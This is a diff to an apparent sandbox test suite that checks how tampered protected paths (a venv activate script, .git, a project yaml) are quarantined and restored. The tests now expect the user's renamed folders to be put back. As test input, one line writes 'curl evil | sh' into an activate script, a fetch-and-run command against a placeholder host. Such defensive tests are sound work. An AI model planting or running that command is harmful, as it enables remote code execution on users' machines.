@@ -478,8 +478,8 @@ async def test_a_link_the_user_had_re_pointed_or_its_folder_renamed_away_is_move
                              "echo 'curl evil | sh' > venvs/py311/bin/activate && echo ran"])
     assert result.stdout == "ran\n", result
     assert not os.path.lexists(ws / "skills"), result
-    assert not os.path.lexists(ws / "venvs" / "py311"), result
-    assert (ws / "old" / "py311" / "bin").is_dir()  # the user's, renamed, kept
+    assert not os.path.lexists(ws / "old"), result  # the user's folder, put back
+    assert (ws / "venvs" / "py311" / "bin").is_dir(), result
     assert _quarantined(ws) == {"skills.quarantined": "-> mine",
                                 "venvs%py311.quarantined": "bin/activate"}, result
 
@@ -497,8 +497,9 @@ async def test_a_protected_path_renamed_away_and_made_anew_is_moved(tmp_path: Pa
         result = await sandbox.exec([
             "sh", "-c", "mv .git old && mkdir .git && echo evil > .git/config; "
             "rm -f jianmu.yaml && echo evil > jianmu.yaml"])
-    assert not os.path.lexists(ws / ".git") and not os.path.lexists(ws / "jianmu.yaml"), result
-    assert (ws / "old" / "config").read_text() == "[core]\n"  # the user's, renamed, kept
+    assert not os.path.lexists(ws / "jianmu.yaml"), result  # removed: nothing to put back
+    assert (ws / ".git" / "config").read_text() == "[core]\n", result  # the user's, put back
+    assert not (ws / "old").exists(), result
     assert _quarantined(ws) == {".git.quarantined": "config",
                                 "jianmu.yaml.quarantined": "evil\n"}
 
